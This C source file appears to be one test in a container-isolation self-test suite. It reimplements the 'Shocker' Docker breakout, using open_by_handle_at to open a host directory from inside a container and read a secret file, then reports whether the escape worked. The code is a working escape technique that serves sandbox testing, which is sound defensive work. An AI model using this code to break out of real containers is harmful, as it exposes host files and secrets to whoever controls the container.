/* open_by_handle_at(2) with CAP_DAC_READ_SEARCH: "Shocker" (2014,
 * https://github.com/gabrielcsapo/shocker, the first Docker breakout).
 * A file handle names an inode of a whole file system, not of the
 * container's part of it, so any descriptor on the same file system
 * (here "/") opens any directory of the host's. Shocker brute-forced
 * the handle from the root inode; to stay fast the runner hands the
 * attack the handle of its own directory (SELFTEST_HANDLE, "TYPE:HEX",
 * made with name_to_handle_at on the host): the question tested is
 * whether the call reaches a host inode at all. */
#include "attack.h"

#include <fcntl.h>
#include <libgen.h>
#include <unistd.h>

int attack_open_by_handle(void) {
    const char *spec = need_env("SELFTEST_HANDLE");
    const char *secret = need_env("SELFTEST_SECRET");
    char copy[4096];
    snprintf(copy, sizeof copy, "%s", secret);
    const char *name = basename(copy);

    union {
        struct file_handle fh;
        char raw[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } h;
    char *end;
    h.fh.handle_type = (int)strtol(spec, &end, 10);
    if (*end != ':')
        BLOCKED("malformed SELFTEST_HANDLE");
    unsigned n = 0;
    for (const char *p = end + 1; p[0] && p[1] && n < MAX_HANDLE_SZ; p += 2) {
        unsigned byte;
        if (sscanf(p, "%2x", &byte) != 1)
            BLOCKED("malformed SELFTEST_HANDLE");
        h.fh.f_handle[n++] = (unsigned char)byte;
    }
    h.fh.handle_bytes = n;

    int mount_fd = open("/", O_RDONLY | O_DIRECTORY);
    if (mount_fd < 0)
        BLOCKED_ERRNO("open /");
    int dir = open_by_handle_at(mount_fd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (dir < 0)
        BLOCKED_ERRNO("open_by_handle_at(host directory)");
    int fd = openat(dir, name, O_RDONLY);
    if (fd < 0)
        BLOCKED_ERRNO("openat(handle's directory, secret)");
    if (print_leak(fd) < 0)
        BLOCKED_ERRNO("read the secret");
    WORKED("opened a host directory by handle and read a file in it");
}
